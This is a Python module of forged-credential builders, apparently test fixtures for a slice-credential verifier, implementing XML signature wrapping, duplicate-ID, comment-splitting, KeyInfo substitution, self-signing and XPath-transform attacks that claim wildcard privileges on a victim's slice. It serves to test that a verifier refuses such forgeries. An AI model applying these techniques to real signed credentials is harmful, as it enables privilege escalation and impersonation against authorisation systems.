"""Forged credentials: the XML signature attack family, built from genuine credentials an attacker holds.

Each builder takes what the attacker has (his own genuine credential, his certificate, his key) and the
victim's slice (URN and certificate), and returns credential XML that claims privileges on the victim's
slice. A sound verifier refuses every one. The builders edit real signed documents with lxml, as an
attacker would; none of them holds a slice authority's key except `signer_mistake_xpath`, which models a
signer that used a transform the verifier must not honour."""

from __future__ import annotations

import base64
import copy
from collections.abc import Callable
from dataclasses import dataclass

import xmlsec
from lxml import etree

from slicex import pki
from slicex.credentials import DS, XML_ID

SIG = f"{{{DS}}}Signature"


@dataclass(frozen=True)
class Attacker:
    cert_pem: bytes  # his own certificate (he connects with it)
    key_pem: bytes
    own_credential: str  # a genuine credential he owns (user or slice credential)
    victim_slice_urn: str
    victim_slice_cert_pem: bytes
    sa_chain: list[bytes]  # public: the slice authority's certificate chain (it is in every credential)


def _root(xml: str) -> etree._Element:
    return etree.fromstring(xml.encode() if not xml.startswith("<?xml") else xml.split("?>", 1)[1].encode())


def _text(root: etree._Element) -> str:
    return etree.tostring(root, encoding="unicode")


def _set(el: etree._Element, tag: str, text: str) -> None:
    el.find(tag).text = text


def _claim_victim(cred: etree._Element, a: Attacker) -> None:
    """Rewrite a credential element so it grants the attacker everything on the victim's slice."""
    _set(cred, "target_urn", a.victim_slice_urn)
    _set(cred, "target_gid", a.victim_slice_cert_pem.decode())
    _claim_everything(cred)


def _claim_everything(cred: etree._Element) -> None:
    """Replace a credential element's privileges by `*`, delegatable."""
    privs = cred.find("privileges")
    for p in list(privs):
        privs.remove(p)
    p = etree.SubElement(privs, "privilege")
    etree.SubElement(p, "name").text = "*"
    etree.SubElement(p, "can_delegate").text = "true"


def _forged_copy(signed: etree._Element, a: Attacker) -> etree._Element:
    forged = copy.deepcopy(signed)
    _claim_victim(forged, a)
    return forged


def _hide_signed(a: Attacker, hide: Callable[[etree._Element, etree._Element], None]) -> str:
    """Move the signed credential where `hide` puts it, and put first a forged copy claiming the victim's
    slice under the signed one's id as a plain `id` attribute (what a lenient reader looks up)."""
    root = _root(a.own_credential)
    signed = root.find("credential")
    forged = _forged_copy(signed, a)
    forged.set("id", forged.attrib.pop(XML_ID))
    root.remove(signed)
    hide(root, signed)
    root.insert(0, forged)
    return _text(root)


def wrap_plain_id_first(a: Attacker) -> str:
    """The reported attack: the signed <credential xml:id=R> moved into another element, a forged first
    <credential id="R"> claiming * on the victim's slice."""
    return _hide_signed(a, lambda root, signed: etree.SubElement(root, "wrapper").append(signed))


def wrap_in_signature_object(a: Attacker) -> str:
    """The classic position: the signed element hidden in <ds:Signature><ds:Object>, forged one in its place."""
    return _hide_signed(a, lambda root, signed: etree.SubElement(
        root.find("signatures").find(SIG), f"{{{DS}}}Object").append(signed))


def wrap_in_forged_parent(a: Attacker) -> str:
    """The signed credential demoted to <parent> of a forged, unsigned top credential."""
    root = _root(a.own_credential)
    signed = root.find("credential")
    forged = _forged_copy(signed, a)
    forged.set(XML_ID, "forged" + signed.get(XML_ID))
    root.remove(signed)
    etree.SubElement(forged, "parent").append(signed)
    root.insert(0, forged)
    return _text(root)


def wrap_in_signatures(a: Attacker) -> str:
    """The signed credential moved inside <signatures>, a forged first credential with the same plain id."""
    return _hide_signed(a, lambda root, signed: root.find("signatures").append(signed))


def second_credential_after(a: Attacker) -> str:
    """A forged second <credential> (a reader that takes the last one, or iterates, would see it)."""
    root = _root(a.own_credential)
    forged = _forged_copy(root.find("credential"), a)
    del forged.attrib[XML_ID]
    root.insert(1, forged)
    return _text(root)


def duplicate_xml_id(a: Attacker) -> str:
    """Two elements carry the signed xml:id: the forged one first."""
    root = _root(a.own_credential)
    signed = root.find("credential")
    forged = _forged_copy(signed, a)
    root.remove(signed)
    root.insert(0, forged)
    etree.SubElement(root, "wrapper").append(signed)
    return _text(root)


def plain_id_instead_of_xml_id(a: Attacker) -> str:
    """The genuine credential renamed by a plain id (altered claims): nothing resolves it as signed."""
    root = _root(a.own_credential)
    cred = root.find("credential")
    ref = cred.get(XML_ID)
    del cred.attrib[XML_ID]
    cred.set("id", ref)
    _claim_victim(cred, a)
    return _text(root)


def comment_splits_target(a: Attacker) -> str:
    """C14N without comments ignores comments, so a comment leaves the digest intact; a reader of `.text` sees
    only the part before it. The attacker's slice is the victim's name plus a suffix; the comment hides it."""
    root = _root(a.own_credential)
    target = root.find("credential").find("target_urn")
    text = target.text
    assert text.startswith(a.victim_slice_urn), "the attacker's slice must be named victim-name + suffix"
    target.text = a.victim_slice_urn
    comment = etree.Comment("")
    comment.tail = text[len(a.victim_slice_urn):]
    target.append(comment)
    return _text(root)


def whitespace_in_signed_content(a: Attacker) -> str:
    """Whitespace added inside a signed field (a lenient reader strips it; the digest must not match)."""
    root = _root(a.own_credential)
    owner = root.find("credential").find("owner_urn")
    owner.text = "\n  " + owner.text + "  \n"
    privs = root.find("credential").find("privileges")
    privs.text = "\n   "
    return _text(root)


def keyinfo_substituted(a: Attacker) -> str:
    """The claims altered and the KeyInfo chain replaced by the attacker's own certificate."""
    root = _root(a.own_credential)
    _claim_victim(root.find("credential"), a)
    data = root.find("signatures").find(SIG).find(f"{{{DS}}}KeyInfo/{{{DS}}}X509Data")
    for c in list(data):
        data.remove(c)
    der = pki.load_cert(a.cert_pem).public_bytes(pki.serialization.Encoding.DER)
    etree.SubElement(data, f"{{{DS}}}X509Certificate").text = base64.b64encode(der).decode()
    return _text(root)


def _resign(root: etree._Element, key_pem: bytes, chain: list[bytes]) -> str:
    """Re-sign the document's first signature with `key_pem`, KeyInfo set to `chain`."""
    sig = root.find("signatures").find(SIG)
    sig.find(f"{{{DS}}}SignatureValue").text = ""
    sig.find(f"{{{DS}}}SignedInfo/{{{DS}}}Reference/{{{DS}}}DigestValue").text = ""
    data = sig.find(f"{{{DS}}}KeyInfo/{{{DS}}}X509Data")
    for c in list(data):
        data.remove(c)
    for pem in chain:
        for cert in pki.load_certs(pem):
            der = cert.public_bytes(pki.serialization.Encoding.DER)
            etree.SubElement(data, f"{{{DS}}}X509Certificate").text = base64.b64encode(der).decode()
    ctx = xmlsec.SignatureContext()
    ctx.key = xmlsec.Key.from_memory(key_pem, xmlsec.KeyFormat.PEM)
    ctx.sign(sig)
    return _text(root)


def self_signed_with_sa_certificate(a: Attacker) -> str:
    """Claims altered, signed with the attacker's key, KeyInfo showing the slice authority's certificates."""
    root = _root(a.own_credential)
    _claim_victim(root.find("credential"), a)
    root = _root(_resign(root, a.key_pem, [a.cert_pem]))
    data = root.find("signatures").find(SIG).find(f"{{{DS}}}KeyInfo/{{{DS}}}X509Data")
    for c in list(data):
        data.remove(c)
    for pem in a.sa_chain:
        der = pki.load_cert(pem).public_bytes(pki.serialization.Encoding.DER)
        etree.SubElement(data, f"{{{DS}}}X509Certificate").text = base64.b64encode(der).decode()
    return _text(root)


def self_signed_as_user(a: Attacker) -> str:
    """Claims altered and honestly signed by the attacker (a user, not an authority over the slice)."""
    root = _root(a.own_credential)
    _claim_victim(root.find("credential"), a)
    return _resign(root, a.key_pem, [a.cert_pem])


def signature_over_other_reference(a: Attacker) -> str:
    """A forged credential with its own xml:id; the genuine signature (over the genuine id) kept beside it."""
    root = _root(a.own_credential)
    signed = root.find("credential")
    forged = _forged_copy(signed, a)
    forged.set(XML_ID, "other" + signed.get(XML_ID))
    root.replace(signed, forged)
    return _text(root)


def extra_signature(a: Attacker) -> str:
    """A second signature over the same credential (a verifier that checks one and trusts another)."""
    root = _root(a.own_credential)
    sigs = root.find("signatures")
    sigs.append(copy.deepcopy(sigs.find(SIG)))
    return _text(root)


def signature_outside_signatures(a: Attacker) -> str:
    """The signature moved into the credential itself (enveloped there), claims unchanged."""
    root = _root(a.own_credential)
    sig = root.find("signatures").find(SIG)
    root.find("signatures").remove(sig)
    root.find("credential").append(sig)
    return _text(root)


def foreign_root_element(a: Attacker) -> str:
    """A foreign element beside the signed credential, carrying forged claims."""
    root = _root(a.own_credential)
    forged = _forged_copy(root.find("credential"), a)
    del forged.attrib[XML_ID]
    etree.SubElement(root, "extension").append(forged)
    return _text(root)


def xpath_transform(a: Attacker) -> str:
    """An XPath transform in the reference (a signer could be tricked into one that excludes the target):
    refused whatever it selects. Here the genuine transform list gets an XPath transform appended."""
    root = _root(a.own_credential)
    transforms = root.find("signatures").find(SIG).find(f"{{{DS}}}SignedInfo/{{{DS}}}Reference/{{{DS}}}Transforms")
    t = etree.SubElement(transforms, f"{{{DS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(t, f"{{{DS}}}XPath").text = "not(ancestor-or-self::target_urn)"
    _claim_victim(root.find("credential"), a)
    return _text(root)


ATTACKS: dict[str, Callable[[Attacker], str]] = {f.__name__: f for f in (
    wrap_plain_id_first, wrap_in_signature_object, wrap_in_forged_parent, wrap_in_signatures,
    second_credential_after, duplicate_xml_id, plain_id_instead_of_xml_id, whitespace_in_signed_content,
    keyinfo_substituted, self_signed_with_sa_certificate, self_signed_as_user, signature_over_other_reference,
    extra_signature, signature_outside_signatures, foreign_root_element, xpath_transform)}
"""Attacks that work from any credential the attacker owns; `comment_splits_target` needs a slice credential
whose target is the victim's name plus a suffix, so callers run it on its own."""


def signer_mistake_xpath(genuine_owner_cert: bytes, target_cert: bytes, target_urn: str, sa_key: bytes,
                         sa_chain: list[bytes], expires_iso: str) -> str:
    """A credential a careless signer produced with an XPath transform that leaves <privileges> out of the
    digest; anyone holding it can then grant himself anything. The verifier must refuse the transform."""
    from datetime import datetime

    from slicex.credentials import create_credential

    xml = create_credential(owner_cert=genuine_owner_cert, target_cert=target_cert, privileges={"info": False},
                            expires=datetime.fromisoformat(expires_iso), signer_cert_chain=sa_chain,
                            signer_key_pem=sa_key)
    root = _root(xml)
    transforms = root.find("signatures").find(SIG).find(f"{{{DS}}}SignedInfo/{{{DS}}}Reference/{{{DS}}}Transforms")
    t = etree.SubElement(transforms, f"{{{DS}}}Transform", Algorithm="http://www.w3.org/TR/1999/REC-xpath-19991116")
    etree.SubElement(t, f"{{{DS}}}XPath").text = "not(ancestor-or-self::privileges)"
    signed = _resign(root, sa_key, sa_chain)
    root = _root(signed)
    _claim_everything(root.find("credential"))
    assert target_urn in signed
    return _text(root)
